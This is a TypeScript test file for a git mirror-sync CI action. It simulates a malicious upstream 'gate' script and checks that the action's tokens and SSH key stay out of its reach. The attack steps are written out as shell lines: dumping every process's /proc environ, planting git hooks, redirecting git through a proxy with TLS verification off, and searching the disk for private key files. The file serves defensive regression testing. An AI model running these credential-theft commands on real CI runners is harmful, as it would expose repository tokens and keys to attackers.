/**
 * A gate runs upstream code. Each test here is a gate that attacks the sync's credentials the way
 * issue 17 describes; each must get nothing, and the push after it must go through unchanged.
 *
 * Verified against the code before the fix (main at 5370509, same tests in a worktree of it,
 * run as root like these): the /proc environ dump held INPUT_MIRROR-TOKEN and
 * INPUT_UPSTREAM-TOKEN, the key file was read from RUNNER_TEMP/git-ssh-*, the planted
 * reference-transaction hook ran on the next fetch with the upstream's Authorization header in
 * GIT_CONFIG_VALUE_n, and the next push went through the planted proxy. Each expectation below
 * failed there.
 *
 * The tests run as root here, so the gate runs as `nobody`. The hook and proxy attacks open the
 * cache to every user first (a runner set up carelessly, or a gate of the same user): what stops
 * them then is the sync itself (config rewritten after the gate, hooksPath=/dev/null, pinned
 * transport settings), not the file permissions.
 */
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hasFailures, syncMirror } from '../../actions/mirror-sync/sync.js';
import { runAction } from '../harness/run-action.js';
import { importBusyboxImage } from '../support/busybox-image.js';
import { type GitHttpServer, startGitHttpServer } from '../support/git-http-server.js';
import { type TestPodman, podmanAvailable, startPodman } from '../support/podman.js';
import { recordingEnvironment, Repos } from './repos.js';

const UPSTREAM_TOKEN = 'ghp_attackUpstream_0123456789';
const MIRROR_TOKEN = 'glpat-attackMirror_9876543210';
const forms = (token: string) => [token, Buffer.from(`x-access-token:${token}`).toString('base64')];
const isRoot = process.getuid?.() === 0;

let repos: Repos;
let upstream: GitHttpServer;
let mirror: GitHttpServer;
let loot: string;

beforeEach(async () => {
  repos = new Repos();
  upstream = await startGitHttpServer({ root: repos.dir, token: UPSTREAM_TOKEN });
  mirror = await startGitHttpServer({ root: repos.dir, token: MIRROR_TOKEN });
  repos.commit('master');
  repos.pushUpstream('master');
  // Where the gate drops what it found: writable by whatever user it runs as.
  loot = mkdtempSync(path.join(os.tmpdir(), 'gate-loot-'));
  chmodSync(loot, 0o1777);
});
afterEach(async () => {
  await upstream.stop();
  await mirror.stop();
  repos.remove();
  rmSync(loot, { recursive: true, force: true });
});

/** Everything the gate left in the loot directory (recursively), as one string. */
function stolen(): string {
  const read = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
      const full = path.join(dir, entry.name);
      return entry.isDirectory() ? read(full) : [readFileSync(full, 'latin1')];
    });
  return read(loot).join('\n');
}

/** An HTTP proxy that records what it is sent and forwards nothing. */
async function recordingProxy(): Promise<{ url: string; requests: string[]; stop(): Promise<void> }> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.writeHead(502).end();
  });
  server.on('connect', (req, socket) => {
    requests.push(`CONNECT ${req.url} ${req.headers['proxy-authorization'] ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    stop: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

describe('a gate attacking the bundled action (Node 24, tokens over HTTP)', () => {
  it('reads no token from /proc, and its hook and proxy in the cache config never see a request', async () => {
    const proxy = await recordingProxy();
    const cacheDir = path.join(repos.dir, 'cache');
    const inputs = {
      upstream: `${upstream.url}/upstream.git`,
      mirror: `${mirror.url}/mirror.git`,
      'upstream-token': UPSTREAM_TOKEN,
      'mirror-token': MIRROR_TOKEN,
      'cache-dir': cacheDir,
    };
    const first = await runAction('mirror-sync', { node: '24', inputs });
    expect(first.exitCode, first.stdout).toBe(0);
    // Open the cache to any user: the defence under test is the sync's, not the permissions.
    chmodSync(repos.dir, 0o755);
    execFileSync('chmod', ['-R', 'a+rwX', cacheDir]);

    const hook = `#!/bin/sh\nmkdir -p ${loot}/hook; env > ${loot}/hook/env-$$\n`;
    const attack = [
      // 1. Every environment the gate can read, the parent's first.
      `for p in $PPID /proc/[0-9]*; do p=\${p#/proc/}; cat /proc/$p/environ > ${loot}/environ-$p 2>/dev/null; done`,
      // 2. A hook in the cache, and core.hooksPath at a directory of its own.
      `cache=$(ls -d ${cacheDir}/*.git)`,
      `mkdir -p ${loot}/hooks && printf '%s' '${hook}' > ${loot}/hooks/reference-transaction && chmod +x ${loot}/hooks/reference-transaction`,
      `cp ${loot}/hooks/reference-transaction $cache/hooks/reference-transaction 2>/dev/null || { mkdir -p $cache/hooks && cp ${loot}/hooks/reference-transaction $cache/hooks/; }`,
      `git config --file $cache/config core.hooksPath ${loot}/hooks`,
      // 3. A proxy for every HTTP request, and one scoped to each side.
      `git config --file $cache/config http.proxy ${proxy.url}`,
      `git config --file $cache/config http.${inputs.mirror}.proxy ${proxy.url}`,
      `git config --file $cache/config http.${inputs.upstream}.proxy ${proxy.url}`,
      `git config --file $cache/config http.sslVerify false`,
      `echo attack planted`,
    ].join('\n');

    repos.commit('master');
    repos.pushUpstream('master');
    const attacked = await runAction('mirror-sync', { node: '24', inputs: { ...inputs, gate: attack } });
    expect(attacked.exitCode, attacked.stdout).toBe(0);
    expect(attacked.stdout).toContain('attack planted');
    expect(repos.refs(repos.mirror)).toEqual(repos.refs(repos.upstream));

    // The next run fetches and pushes through the cache the gate wrote to.
    repos.commit('master');
    repos.pushUpstream('master');
    const next = await runAction('mirror-sync', { node: '24', inputs });
    expect(next.exitCode, next.stdout).toBe(0);
    expect(repos.refs(repos.mirror)).toEqual(repos.refs(repos.upstream));

    await proxy.stop();
    expect(proxy.requests).toEqual([]);
    expect(existsSync(path.join(loot, 'hook'))).toBe(false);
    const found = stolen();
    expect(found).toContain('MIRROR_SYNC_COMMIT'); // the dump itself worked: the gate's own environment
    for (const secret of [...forms(UPSTREAM_TOKEN), ...forms(MIRROR_TOKEN)])
      expect(found).not.toContain(secret);
    const config = readFileSync(
      path.join(
        readdirSync(cacheDir)
          .map((f) => path.join(cacheDir, f))
          .find((f) => f.endsWith('.git'))!,
        'config',
      ),
      'utf8',
    );
    expect(config).not.toMatch(/proxy|hooksPath|sslVerify/i);
  });
});

describe('a gate looking for the SSH key', () => {
  it('finds no key file while it runs; the push after it gets the key again', async () => {
    // A fake ssh transport: runs the remote git command locally and notes whether the key it was
    // given with -i exists at that moment.
    const bin = path.join(repos.dir, 'fake-ssh-bin');
    mkdirSync(bin);
    const sshLog = path.join(repos.dir, 'ssh.log');
    writeFileSync(
      path.join(bin, 'ssh'),
      [
        '#!/bin/sh',
        '# Fake ssh for tests (no sshd here): parses the options git passes, runs the command locally.',
        'key=',
        'while [ $# -gt 1 ]; do',
        '  case "$1" in',
        '    -i) key=$2; shift 2 ;;',
        '    -o|-p) shift 2 ;;',
        '    -*) shift ;;',
        '    *) shift; break ;;',
        '  esac',
        'done',
        `if [ -r "$key" ]; then echo "key present: $*" >> ${sshLog}; else echo "key missing: $*" >> ${sshLog}; fi`,
        'exec sh -c "$*"',
        '',
      ].join('\n'),
      { mode: 0o755 },
    );
    const { privateKey } = generateKeyPairSync('ed25519', {
      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
      publicKeyEncoding: { type: 'spki', format: 'pem' },
    });
    const tempDir = path.join(repos.dir, 'runner-temp');
    mkdirSync(tempDir);
    chmodSync(repos.dir, 0o755);
    chmodSync(tempDir, 0o755);
    const environment = recordingEnvironment(tempDir, { ...process.env, PATH: `${bin}:${process.env.PATH}` });
    const gate = [
      `ls -la ${tempDir} > ${loot}/listing 2>&1`,
      `cat ${tempDir}/git-ssh-*/id > ${loot}/keys 2>/dev/null`,
      `find / -xdev -path '*git-ssh-*' -name id -exec cat {} + >> ${loot}/keys 2>/dev/null`,
      'true',
    ].join('\n');
    const report = await syncMirror(
      repos.config({ mirror: `git@127.0.0.1:${repos.mirror}`, sshKey: privateKey, gate }),
      environment,
    );
    expect(hasFailures(report), report.failures.join('\n')).toBe(false);
    expect(repos.refs(repos.mirror)).toEqual(repos.refs(repos.upstream));
    const keyLines = privateKey.split('\n').filter((l) => l.length > 16 && !l.startsWith('-----'));
    const found = stolen();
    expect(found).not.toMatch(/git-ssh-/); // not even the directory was there
    for (const line of keyLines) expect(found).not.toContain(line);
    const calls = readFileSync(sshLog, 'utf8').trim().split('\n');
    expect(calls.at(-1)).toMatch(/^key present: git-receive-pack /);
    expect(calls.filter((c) => c.startsWith('key missing'))).toEqual([]);
    expect(readdirSync(tempDir).filter((f) => f.startsWith('git-ssh-'))).toEqual([]);
    if (isRoot) expect(environment.lines.join('\n')).not.toMatch(/runs as this job's own user/);
  });
});

describe.runIf(podmanAvailable())('a gate in a container (gate-image, rootful podman)', () => {
  let podman: TestPodman;
  beforeAll(() => {
    podman = startPodman();
    importBusyboxImage('podman', podman.env);
    // The gate contract is `bash -c`; busybox has no bash, so the test image gets a stand-in.
    const context = mkdtempSync(path.join(os.tmpdir(), 'gate-image-'));
    writeFileSync(path.join(context, 'bash'), '#!/bin/sh\nexec sh "$@"\n', { mode: 0o755 });
    writeFileSync(path.join(context, 'Dockerfile'), 'FROM localhost/busybox:1\nCOPY bash /bin/bash\n');
    execFileSync('podman', ['build', '--quiet', '--tag', 'localhost/gate:1', context], {
      env: { ...process.env, ...podman.env },
      stdio: 'ignore',
    });
    rmSync(context, { recursive: true, force: true });
  });
  afterAll(async () => podman?.stop());

  it('runs in the exported tree with no network and the allowlist only, and leaves no container', async () => {
    const listener = http.createServer((_req, res) => res.end('open'));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as AddressInfo).port;
    const tempDir = path.join(repos.dir, 'runner-temp');
    mkdirSync(tempDir);
    const environment = recordingEnvironment(tempDir, {
      ...process.env,
      ...podman.env,
      REGISTRY_AUTH_FILE: undefined, // the sandbox's file exists only after a login
      'INPUT_MIRROR-TOKEN': MIRROR_TOKEN,
      GH_TOKEN: UPSTREAM_TOKEN,
    });
    const gate = [
      'echo "cwd=$(pwd) commit=$MIRROR_SYNC_COMMIT home=$HOME"',
      `if wget -q -T 2 -O- http://127.0.0.1:${port}/ >/dev/null 2>&1; then echo net=open; else echo net=closed; fi`,
      'env | grep -c -e TOKEN -e INPUT_ || true',
    ].join('\n');
    const report = await syncMirror(
      repos.config({ gate, gateSandbox: { image: 'localhost/gate:1', engine: 'podman' } }),
      environment,
    );
    await new Promise((resolve) => listener.close(resolve));
    expect(hasFailures(report), report.failures.join('\n')).toBe(false);
    const out = report.gates[0].tail;
    expect(out).toContain(`cwd=/src commit=${repos.rev('master')} home=/gate-home`);
    expect(out).toContain('net=closed');
    expect(out.trim().split('\n').at(-1)).toBe('0');
    expect(repos.refs(repos.mirror)).toEqual(repos.refs(repos.upstream));
    const left = execFileSync('podman', ['ps', '--all', '--quiet'], {
      env: { ...process.env, ...podman.env },
      encoding: 'utf8',
    });
    expect(left.trim()).toBe('');
  });
});
